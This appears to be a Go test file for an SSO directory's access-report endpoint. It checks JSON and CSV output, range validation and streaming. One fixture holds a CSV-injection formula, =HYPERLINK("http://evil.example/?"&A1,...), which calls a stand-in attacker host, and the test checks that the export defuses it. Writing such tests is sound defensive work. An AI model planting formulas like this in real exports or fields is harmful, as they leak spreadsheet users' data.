package queries

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"go.uber.org/zap"

	"github.com/ssodir/ssodir/internal/asof"
	"github.com/ssodir/ssodir/internal/dynamo/dynamotest"
	"github.com/ssodir/ssodir/internal/events"
	"github.com/ssodir/ssodir/internal/httpapi"
	"github.com/ssodir/ssodir/internal/queries/querytest"
)

// reportStep projects e and indexes it into f's read table as the projector does.
func reportStep(t *testing.T, f *querytest.Tenant, e events.Envelope) time.Time {
	t.Helper()
	apply(t, f, e)
	if err := asof.New(dynamotest.Current(t).DynamoDB()).Apply(t.Context(), f.Tables().Users, e); err != nil {
		t.Fatal(err)
	}
	return e.OccurredAt
}

func reportServer(svc *Service) *echoHandler {
	e := httpapi.NewEcho(httpapi.Options{Log: zap.NewNop(), Service: "test"})
	NewHandlers(svc).Register(e)
	return &echoHandler{e}
}

type echoHandler struct{ http.Handler }

func (h *echoHandler) get(q url.Values) *httptest.ResponseRecorder {
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/systems/acme/tenants/eu/access-report?"+q.Encode(), nil))
	return rec
}

func rangeQuery(from, to time.Time, format string) url.Values {
	q := url.Values{"from": {from.Format(time.RFC3339Nano)}, "to": {to.Format(time.RFC3339Nano)}}
	if format != "" {
		q.Set("format", format)
	}
	return q
}

// TestAccessReportOverHTTP: the report of a small history in JSON (every value exactly as
// recorded, an actor whose name is a formula included) and in CSV (the same rows, the
// formula neutralised with a leading ', every cell quoted), and the refusals.
func TestAccessReportOverHTTP(t *testing.T) {
	var now time.Time
	svc, f := fixture(t, nil, Options{HistoryRetention: 30 * 24 * time.Hour, Now: func() time.Time { return now }})
	db := dynamotest.Current(t).DynamoDB()
	created := reportStep(t, f, f.CreateGroup("Ops", ""))
	if err := asof.MarkCoverage(t.Context(), db, f.Tables().Users, asof.Millis(created)); err != nil {
		t.Fatal(err)
	}
	reportStep(t, f, f.CreateUser(events.User{Username: "ann"}))
	reportStep(t, f, f.CreateUser(events.User{Username: "ben"}))
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	f.SetActor(formula)
	annIn := reportStep(t, f, f.AddMember("Ops", "ann"))
	f.SetActor("-admin")
	benIn := reportStep(t, f, f.AddMember("Ops", "ben"))
	f.SetActor("admin, the \"first\"")
	annOut := reportStep(t, f, f.RemoveMember("Ops", "ann"))
	now = annOut.Add(time.Hour)
	h := reportServer(svc)

	rec := h.get(rangeQuery(created, now, ""))
	if rec.Code != 200 || !strings.HasPrefix(rec.Header().Get("Content-Type"), "application/json") {
		t.Fatalf("JSON report: %d %s", rec.Code, rec.Body)
	}
	var body struct {
		From, To string
		Items    []asof.Row
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
		t.Fatalf("JSON report: %v\n%s", err, rec.Body)
	}
	rows := map[string]asof.Row{}
	for _, r := range body.Items {
		rows[r.Username] = r
	}
	ann, ben := rows["ann"], rows["ben"]
	if len(body.Items) != 2 || ann.Group != "Ops" || ben.Group != "Ops" || ann.UserID == "" || ben.UserID == "" {
		t.Fatalf("JSON rows: %+v", body.Items)
	}
	if !ann.AddedAt.Equal(annIn.Truncate(time.Millisecond)) || ann.AddedBy != formula || ann.RemovedAt == nil ||
		!ann.RemovedAt.Equal(annOut.Truncate(time.Millisecond)) || ann.RemovedBy != `admin, the "first"` {
		t.Errorf("ann's row: %+v", ann)
	}
	if !ben.AddedAt.Equal(benIn.Truncate(time.Millisecond)) || ben.AddedBy != "-admin" || ben.RemovedAt != nil || ben.RemovedBy != "" ||
		ben.ExpiresAt != nil || len(ben.UserPeriods) != 1 || ben.UserPeriods[0].Status != asof.StatusActive || ben.UserPeriods[0].To != nil {
		t.Errorf("ben's row: %+v", ben)
	}

	rec = h.get(rangeQuery(created, now, "csv"))
	if rec.Code != 200 || rec.Header().Get("Content-Type") != "text/csv; charset=utf-8" ||
		!strings.Contains(rec.Header().Get("Content-Disposition"), "attachment") {
		t.Fatalf("CSV report: %d %v %s", rec.Code, rec.Header(), rec.Body)
	}
	raw := rec.Body.String()
	if !strings.Contains(raw, `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`) || !strings.Contains(raw, `"'-admin"`) {
		t.Errorf("CSV does not neutralise the formulas:\n%s", raw)
	}
	recs, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil || len(recs) != 3 || strings.Join(recs[0], ",") != strings.Join(reportColumns, ",") {
		t.Fatalf("CSV: %v %q", err, recs)
	}
	for _, r := range recs[1:] {
		want := map[string][]string{
			"ann": {"Ops", ann.GroupID, "ann", ann.UserID, "", annIn.UTC().Format(csvTime), "'" + formula, annOut.UTC().Format(csvTime), `admin, the "first"`, ""},
			"ben": {"Ops", ben.GroupID, "ben", ben.UserID, "", benIn.UTC().Format(csvTime), "'-admin", "", "", ""},
		}[r[2]]
		if strings.Join(r[:10], "|") != strings.Join(want, "|") || !strings.HasPrefix(r[10], "active ") {
			t.Errorf("CSV row %q, want %q", r, want)
		}
	}

	// A writer that cannot flush (Lambda's) gets the same answer, whole.
	whole := httptest.NewRecorder()
	h.ServeHTTP(noFlush{whole}, httptest.NewRequest(http.MethodGet, "/v1/systems/acme/tenants/eu/access-report?"+rangeQuery(created, now, "csv").Encode(), nil))
	if whole.Code != 200 || whole.Body.String() != raw {
		t.Errorf("through a writer that cannot flush: %d\n%s", whole.Code, whole.Body)
	}

	// Only the intervals that overlap the range: ann's ended at annOut, [from, to) is
	// exclusive of to.
	rec = h.get(rangeQuery(annOut, now, ""))
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || len(body.Items) != 1 || body.Items[0].Username != "ben" {
		t.Errorf("report from ann's removal: %d %s", rec.Code, rec.Body)
	}
	rec = h.get(rangeQuery(created, annIn, ""))
	if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || len(body.Items) != 0 {
		t.Errorf("report up to ann's addition: %d %s", rec.Code, rec.Body)
	}

	for _, c := range []struct {
		name string
		q    url.Values
		want string
	}{
		{"before the coverage mark", rangeQuery(created.Add(-time.Millisecond), now, ""), "history_not_kept"},
		{"beyond the retention", rangeQuery(now.Add(-31*24*time.Hour), now, "csv"), "history_not_kept"},
		{"to in the future", rangeQuery(created, now.Add(time.Second), ""), "validation_failed"},
		{"from after to", rangeQuery(annOut, annIn, ""), "validation_failed"},
		{"from equal to", rangeQuery(annIn, annIn, ""), "validation_failed"},
		{"same millisecond", rangeQuery(annIn, annIn.Add(time.Microsecond), ""), "validation_failed"},
		{"malformed", url.Values{"from": {"yesterday"}, "to": {now.Format(time.RFC3339)}}, "validation_failed"},
		{"no to", url.Values{"from": {created.Format(time.RFC3339Nano)}}, "validation_failed"},
		{"another format", rangeQuery(created, now, "xml"), "validation_failed"},
		{"an unknown parameter", url.Values{"from": {created.Format(time.RFC3339Nano)}, "to": {now.Format(time.RFC3339Nano)}, "group": {"Ops"}}, "validation_failed"},
	} {
		rec := h.get(c.q)
		var p map[string]any
		if err := json.Unmarshal(rec.Body.Bytes(), &p); err != nil || rec.Code != 400 || p["code"] != c.want {
			t.Errorf("%s: %d %s, want 400 %s", c.name, rec.Code, rec.Body, c.want)
		}
	}
}

// noFlush is a ResponseWriter that cannot flush, as Lambda's adapter's.
type noFlush struct{ w http.ResponseWriter }

func (n noFlush) Header() http.Header         { return n.w.Header() }
func (n noFlush) Write(b []byte) (int, error) { return n.w.Write(b) }
func (n noFlush) WriteHeader(code int)        { n.w.WriteHeader(code) }

// gatedDB holds the report's scan once the pages before it have returned memberships,
// until the test lets it go: a handler that buffered its answer would send nothing by
// then.
type gatedDB struct {
	DB
	mu      sync.Mutex
	sawRows bool
	gated   bool
	blocked chan struct{}
	release chan struct{}
	scans   int
}

func (g *gatedDB) Scan(ctx context.Context, in *dynamodb.ScanInput, opts ...func(*dynamodb.Options)) (*dynamodb.ScanOutput, error) {
	g.mu.Lock()
	g.scans++
	hold := g.sawRows && !g.gated
	if hold {
		g.gated = true
	}
	g.mu.Unlock()
	if hold {
		close(g.blocked)
		select {
		case <-g.release:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	out, err := g.DB.Scan(ctx, in, opts...)
	if err == nil {
		for _, it := range out.Items {
			if id, ok := it["id"].(*types.AttributeValueMemberS); ok && strings.HasPrefix(id.Value, "asof#g#") {
				g.mu.Lock()
				g.sawRows = true
				g.mu.Unlock()
			}
		}
	}
	return out, err
}

// TestAccessReportStreams: a report of many pages reaches the client a page at a time —
// the first rows are read by the client while the handler is still held in a later page's
// scan — and every membership is in it once.
func TestAccessReportStreams(t *testing.T) {
	var now time.Time
	gated := &gatedDB{DB: dynamotest.Current(t).DynamoDB(), blocked: make(chan struct{}), release: make(chan struct{})}
	svc, f := fixture(t, gated, Options{Now: func() time.Time { return now }, ReportPageSize: 7})
	db := dynamotest.Current(t).DynamoDB()
	created := reportStep(t, f, f.CreateGroup("Ops", ""))
	if err := asof.MarkCoverage(t.Context(), db, f.Tables().Users, asof.Millis(created)); err != nil {
		t.Fatal(err)
	}
	const users = 40
	for i := range users {
		name := fmt.Sprintf("user%02d", i)
		reportStep(t, f, f.CreateUser(events.User{Username: name}))
		now = reportStep(t, f, f.AddMember("Ops", name)).Add(time.Second)
	}
	srv := httptest.NewServer(reportServer(svc))
	defer srv.Close()
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, srv.URL+"/v1/systems/acme/tenants/eu/access-report?"+rangeQuery(created, now, "csv").Encode(), nil)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("status %d", res.StatusCode)
	}
	select {
	case <-gated.blocked:
	case <-ctx.Done():
		t.Fatal("the report's scan was never held after a page of memberships")
	}
	// The handler now waits in a scan; the rows of the pages before it must be here.
	r := bufio.NewReader(res.Body)
	header, err := r.ReadString('\n')
	if err != nil || !strings.HasPrefix(header, `"group"`) {
		t.Fatalf("header: %q %v", header, err)
	}
	first, err := r.ReadString('\n')
	if err != nil || !strings.HasPrefix(first, `"Ops"`) {
		t.Fatalf("first row: %q %v", first, err)
	}
	close(gated.release)
	rest, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(header + first + string(rest))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs[1:] {
		if seen[rec[2]] {
			t.Errorf("%s twice", rec[2])
		}
		seen[rec[2]] = true
	}
	if len(seen) != users || gated.scans < 3 {
		t.Errorf("%d members in %d scans, want %d in several pages", len(seen), gated.scans, users)
	}
}
